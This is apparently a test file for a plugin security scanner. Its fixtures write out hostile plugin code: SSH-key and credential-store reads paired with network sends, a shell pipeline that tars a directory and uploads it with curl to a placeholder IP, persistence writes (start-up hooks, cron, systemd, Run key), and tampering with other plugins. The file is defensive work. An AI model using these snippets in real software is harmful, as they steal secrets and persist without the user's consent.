/**
 * The plugin-level judgement: declarations weighed against what the whole plugin can reach,
 * secrets and network wherever they happen, persistence, tampering with the host or other
 * plugins, and execution at import time. Each test tries the attack; the honest look-alikes
 * beside them must stay below high.
 */
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { test } from 'node:test';
import { plugin, undeclaredHigh } from './reach-support.ts';
import { FIXTURES, scan } from './support.ts';

const MANIFEST = (capabilities: string) =>
	`uuid = "4c2e8a1f-7b3d-4f9e-a6c5-0d1b2e3f4a5b"\nname = "Reach"\ndescription = "Reach fixture"\napi = ["3.0"]\n${capabilities}`;

const SOCKET_PLUGIN = {
	'__init__.py':
		'import socket\n\n\ndef connect(addr):\n    return socket.create_connection(addr)\n',
};

const high = (report: Awaited<ReturnType<typeof scan>>) =>
	report.findings.filter((f) => f.severity === 'high').map((f) => f.ruleId);

test('a sensitive capability reached without a declaration is high, with a table or without one', async () => {
	const noTable = await scan(plugin({ ...SOCKET_PLUGIN, 'MANIFEST.toml': MANIFEST('') }));
	assert.deepEqual(undeclaredHigh(noTable), ['the network outside the host’s API']);
	// The "undeclared" notice of D20 is kept beside it.
	assert.ok(noTable.findings.some((f) => f.ruleId === 'capabilities-missing'));
	const otherTable = await scan(
		plugin({ ...SOCKET_PLUGIN, 'MANIFEST.toml': MANIFEST('[capabilities]\nconfig_read = true\n') }),
	);
	assert.deepEqual(undeclaredHigh(otherTable), ['the network outside the host’s API']);
	const finding = otherTable.findings.find((f) => f.ruleId === 'undeclared-sensitive');
	assert.equal(finding?.file, '__init__.py');
	assert.equal(finding?.line, 1);
	assert.equal(finding?.capability, 'network');
	assert.match(finding?.message ?? '', /also __init__\.py:5/);
});

test('a sensitive capability declared true is not high', async () => {
	const report = await scan(
		plugin({ ...SOCKET_PLUGIN, 'MANIFEST.toml': MANIFEST('[capabilities]\nnetwork = true\n') }),
	);
	assert.deepEqual(high(report), []);
	assert.deepEqual(report.capabilities.inferred, ['network']);
});

test('a capability declared false and reached only by an import is high', async () => {
	const report = await scan(
		plugin({
			'__init__.py': 'import subprocess as sp\n\nRUNNERS = {"run": sp.run}\n',
			'MANIFEST.toml': MANIFEST('[capabilities]\nsubprocess = false\n'),
		}),
	);
	const denied = report.findings.filter((f) => f.ruleId === 'capability-denied-used');
	assert.deepEqual(
		denied.map((f) => [f.capability, f.severity]),
		[['subprocess', 'high']],
	);
	// Said once, as denied, not again as undeclared.
	assert.deepEqual(undeclaredHigh(report), []);
});

test('secrets read in one file and the network reached in another are high together', async () => {
	const report = await scan(
		plugin({
			'MANIFEST.toml': MANIFEST('[capabilities]\nnetwork = true\nfilesystem_read = true\n'),
			'keys.py':
				'import os\n\ndef key():\n    return open(os.path.expanduser("~/.ssh/id_rsa")).read()\n',
			'send.py':
				'import urllib.request\n\ndef ping(data):\n    urllib.request.urlopen("https://example.org", data)\n',
		}),
	);
	const joined = report.findings.filter((f) => f.ruleId === 'secrets-and-network');
	assert.equal(joined.length, 1);
	assert.equal(joined[0]?.severity, 'high');
	assert.equal(joined[0]?.file, 'keys.py');
	assert.match(joined[0]?.message ?? '', /send\.py:1/);
	// Without the network, reading the same key is still an undeclared secret, but not this.
	const alone = await scan(plugin({ 'keys.py': 'PATH = "~/.ssh/id_rsa"\n' }));
	assert.equal(alone.findings.filter((f) => f.ruleId === 'secrets-and-network').length, 0);
});

test('service tokens and desktop password stores are secrets, and with the network high', async () => {
	for (const place of [
		'/.config/gh/hosts.yml',
		'~/.config/hub',
		'~/.vault-token',
		'~/.config/rclone/rclone.conf',
		'~/.local/share/keyrings/login.keyring',
		'~/.password-store/',
		'~/.cargo/credentials.toml',
		'~/.purple/accounts.xml',
	]) {
		const report = await scan(
			plugin({
				'MANIFEST.toml': MANIFEST('[capabilities]\nnetwork = true\nfilesystem_read = true\n'),
				'index.js': `const fs = require('fs');\nconst os = require('os');\nconst tls = require('tls');\nexports.go = () => tls.connect(443, 'example.com', {}, () => 0).end(fs.readFileSync(os.homedir() + '${place}'));\n`,
			}),
		);
		assert.ok(high(report).includes('secrets-and-network'), `${place}: ${high(report).join()}`);
	}
	const honest = await scan(
		plugin({
			'MANIFEST.toml': MANIFEST('[capabilities]\nnetwork = true\nfilesystem_read = true\n'),
			'index.js': `const fs = require('fs');\nconst tls = require('tls');\nexports.go = () => tls.connect(443, 'example.com', {}, () => 0).end(fs.readFileSync('/etc/hosts'));\n`,
		}),
	);
	assert.deepEqual(high(honest), []);
});

test('secrets sent through the host’s own web service are still secrets with network', async () => {
	const report = await scan(
		plugin({
			'a.py': 'import os\n\ndef t():\n    return os.environ["AWS_SECRET_ACCESS_KEY"]\n',
			'b.py': 'def send(api, t):\n    api.web_service.post("example.org", 443, "/", t, None)\n',
		}),
	);
	assert.ok(high(report).includes('secrets-and-network'), high(report).join());
});

const PERSISTENCE: [string, string][] = [
	['.pth start-up hook', 'os.path.join(site.getsitepackages()[0], "zz_helper.pth")'],
	['sitecustomize', 'os.path.join(site.getusersitepackages(), "sitecustomize.py")'],
	['usercustomize', 'os.path.join(site.getusersitepackages(), "usercustomize.py")'],
	['shell start-up file', 'os.path.expanduser("~/.zshrc")'],
	['autostart entry', 'os.path.expanduser("~/.config/autostart/helper.desktop")'],
	['systemd unit', 'os.path.expanduser("~/.config/systemd/user/helper.service")'],
	['cron', '"/var/spool/cron/crontabs/" + os.getlogin()'],
	['launch agent', 'os.path.expanduser("~/Library/LaunchAgents/org.helper.plist")'],
	[
		'Windows start-up folder',
		'os.path.join(os.environ["APPDATA"], r"Microsoft\\Windows\\Start Menu\\Programs\\Startup\\h.bat")',
	],
];

for (const [place, target] of PERSISTENCE) {
	test(`a write to a persistence location is high: ${place}`, async () => {
		const report = await scan(
			plugin({
				'__init__.py': `import os\nimport site\n\n\ndef enable(api):\n    target = ${target}\n    with open(target, "a") as out:\n        out.write("import helper\\n")\n`,
				'MANIFEST.toml': MANIFEST('[capabilities]\nfilesystem_write = true\n'),
			}),
		);
		assert.ok(high(report).includes('persistence-write'), `${place}: ${high(report).join()}`);
	});
}

const SPELLED_IN_PIECES: [string, string][] = [
	[
		'autostart, as a sum of literals',
		'os.path.join(os.path.expanduser("~"), ".config", "auto" + "start", "h.desktop")',
	],
	['a shell start-up file, after an unknown piece', 'os.path.expanduser("~") + "/.ba" + "shrc"'],
	['a systemd unit, in parentheses', '"~/.config/" + ("sys" + "temd") + "/user/h.service"'],
];

for (const [place, target] of SPELLED_IN_PIECES) {
	test(`a persistence location spelled in pieces is still one: ${place}`, async () => {
		const report = await scan(
			plugin({
				'__init__.py': `import os\n\n\ndef enable(api):\n    target = ${target}\n    with open(target, "a") as out:\n        out.write("x")\n`,
				'MANIFEST.toml': MANIFEST('[capabilities]\nfilesystem_write = true\n'),
			}),
		);
		assert.ok(high(report).includes('persistence-write'), `${place}: ${high(report).join()}`);
	});
}

test('a persistence location spelled in pieces in JS is still one', async () => {
	const report = await scan(
		plugin({
			'index.js':
				"const fs = require('fs');\nconst os = require('os');\nexports.go = () => fs.writeFileSync(os.homedir() + '/.config/auto' + 'start/x.desktop', 'x');\n",
			'MANIFEST.toml': MANIFEST('[capabilities]\nfilesystem_write = true\n'),
		}),
	);
	assert.ok(high(report).includes('persistence-write'), high(report).join());
});

test('pieces are not joined across an unknown value', async () => {
	const report = await scan(
		plugin({
			'__init__.py':
				'import os\n\n\ndef save(name, data):\n    with open("covers/auto" + name + "start.jpg", "wb") as out:\n        out.write(data)\n',
			'MANIFEST.toml': MANIFEST('[capabilities]\nfilesystem_write = true\n'),
		}),
	);
	assert.deepEqual(high(report), []);
});

test('a Windows run key set through winreg is a persistence write', async () => {
	const report = await scan(
		plugin({
			'__init__.py':
				'import winreg\n\ndef enable(api):\n    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_SET_VALUE)\n    winreg.SetValueEx(key, "helper", 0, winreg.REG_SZ, "pythonw helper.py")\n    os.remove("x")\n',
		}),
	);
	assert.ok(high(report).includes('persistence-write'), high(report).join());
});

test('an honest plugin writing its own files names no persistence location', async () => {
	const report = await scan(
		plugin({
			'__init__.py':
				'import os\n\ndef save(folder, data):\n    with open(os.path.join(folder, "cover.jpg"), "wb") as out:\n        out.write(data)\n',
			'MANIFEST.toml': MANIFEST('[capabilities]\nfilesystem_write = true\n'),
		}),
	);
	assert.deepEqual(high(report), []);
});

test('changing the host’s protective settings or writing its configuration file is tampering', async () => {
	const settings = await scan(
		plugin({
			'__init__.py':
				'from picard import config\n\ndef enable(api):\n    config.setting["enabled_plugins"] = ["helper"]\n',
			'MANIFEST.toml': MANIFEST('[capabilities]\nconfig_write = true\n'),
		}),
	);
	assert.deepEqual(high(settings), ['host-tamper']);
	const file = await scan(
		plugin({
			'__init__.py':
				'import os\n\ndef enable(api):\n    with open(os.path.expanduser("~/.config/MusicBrainz/Picard.ini"), "a") as f:\n        f.write("[setting]\\n")\n',
			'MANIFEST.toml': MANIFEST('[capabilities]\nfilesystem_write = true\n'),
		}),
	);
	assert.deepEqual(high(file), ['host-tamper']);
	const own = await scan(
		plugin({
			'__init__.py':
				'from picard import config\n\ndef save(v):\n    config.setting["helper_enabled"] = v\n',
			'MANIFEST.toml': MANIFEST('[capabilities]\nconfig_write = true\n'),
		}),
	);
	assert.deepEqual(high(own), []);
});

test('the host’s own settings store opened directly and its proxy changed is tampering', async () => {
	const report = await scan(
		plugin({
			'__init__.py':
				'from PyQt6.QtCore import QSettings\n\ndef enable(api):\n    s = QSettings("MusicBrainz", "Picard")\n    s.setValue("setting/use_proxy", True)\n',
		}),
	);
	assert.ok(high(report).includes('host-tamper'), high(report).join());
	const own = await scan(
		plugin({
			'__init__.py':
				'from PyQt6.QtCore import QSettings\n\ndef save(v):\n    s = QSettings("Helper", "Helper")\n    s.setValue("token_hint", v)\n',
		}),
	);
	assert.ok(!high(own).includes('host-tamper'), high(own).join());
});

test('the network reached through a program is network: declared false, it is high', async () => {
	const report = await scan(
		plugin({
			'__init__.py':
				'import subprocess\n\ndef enable(api, d):\n    subprocess.Popen(f"tar c {d} | curl -s -T - http://198.51.100.7/u", shell=True)\n',
			'MANIFEST.toml': MANIFEST('[capabilities]\nsubprocess = true\nnetwork = false\n'),
		}),
	);
	const denied = report.findings.filter((f) => f.ruleId === 'capability-denied-used');
	assert.deepEqual(
		denied.map((f) => [f.capability, f.severity]),
		[['network', 'high']],
	);
	// A computed shell command alone is the process capability (declared here), not high.
	assert.equal(report.findings.find((f) => f.ruleId === 'process-shell')?.severity, 'medium');
});

test('writing into a sibling plugin’s directory is tampering', async () => {
	const python = await scan(
		plugin({
			'__init__.py':
				'import os\n\nOTHERS = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))\n\ndef enable(api):\n    with open(os.path.join(OTHERS, "lyrics", "__init__.py"), "a") as f:\n        f.write("import helper\\n")\n',
			'MANIFEST.toml': MANIFEST('[capabilities]\nfilesystem_write = true\n'),
		}),
	);
	assert.deepEqual(high(python), ['host-tamper']);
	const js = await scan(
		plugin({
			'index.js':
				"const fs = require('fs');\nconst path = require('path');\nexport function enable() {\n  fs.appendFileSync(path.join(__dirname, '..', 'other', 'index.js'), 'x');\n}\n",
			'MANIFEST.toml': MANIFEST('[capabilities]\nfilesystem_write = true\n'),
		}),
	);
	assert.deepEqual(high(js), ['host-tamper']);
	const ownDir = await scan(
		plugin({
			'__init__.py':
				'import os\n\nHERE = os.path.dirname(os.path.abspath(__file__))\n\ndef enable(api):\n    with open(os.path.join(HERE, "cache.json"), "w") as f:\n        f.write("{}")\n',
			'MANIFEST.toml': MANIFEST('[capabilities]\nfilesystem_write = true\n'),
		}),
	);
	assert.deepEqual(high(ownDir), []);
});

test('a process started or code run at import time is high; the same inside enable() is not', async () => {
	const declared = MANIFEST('[capabilities]\nsubprocess = true\n');
	const atImport = await scan(
		plugin({
			'__init__.py':
				'import os\nimport subprocess\n\nsubprocess.Popen(["helper"])\nlist(map(os.system, ["helper"]))\n\n\nclass P:\n    code = exec(open("x.dat").read())\n',
			'MANIFEST.toml': declared,
		}),
	);
	const lines = (rule: string) =>
		atImport.findings.filter((f) => f.ruleId === rule && f.severity === 'high').map((f) => f.line);
	assert.deepEqual(lines('import-time-side-effect'), [4, 5]);
	assert.deepEqual(lines('import-time-exec'), [9]);
	const inEnable = await scan(
		plugin({
			'__init__.py':
				'import os\nimport subprocess\n\n\ndef enable(api):\n    subprocess.Popen(["helper"])\n    list(map(os.system, ["helper"]))\n',
			'MANIFEST.toml': declared,
		}),
	);
	// Handing os.system to map stays a hidden path wherever it is (hidden-callable); what
	// enable() changes is that nothing counts as run at import time.
	assert.deepEqual(high(inEnable), ['hidden-callable']);
});

test('an introspection escape from a literal or an imported object is high; the module’s own is medium', async () => {
	const report = await scan(
		plugin({
			'a.py':
				'import json\n\nX = ().__class__.__bases__[0].__subclasses__()\nG = json.dumps.__globals__\n\n\ndef own():\n    return own.__globals__\n',
		}),
	);
	const escapes = report.findings
		.filter((f) => f.ruleId === 'introspection-escape')
		.map((f) => [f.line, f.severity]);
	assert.deepEqual(escapes, [
		[3, 'high'],
		[4, 'high'],
		[8, 'medium'],
	]);
});

test('the honest Picard plugin fixture gets no high finding', async () => {
	const report = await scan(join(FIXTURES, 'benign', 'picard-plugin'));
	assert.deepEqual(high(report), []);
	// Its network goes through the host's web service, which it declares.
	assert.deepEqual(report.capabilities.undeclared, []);
});
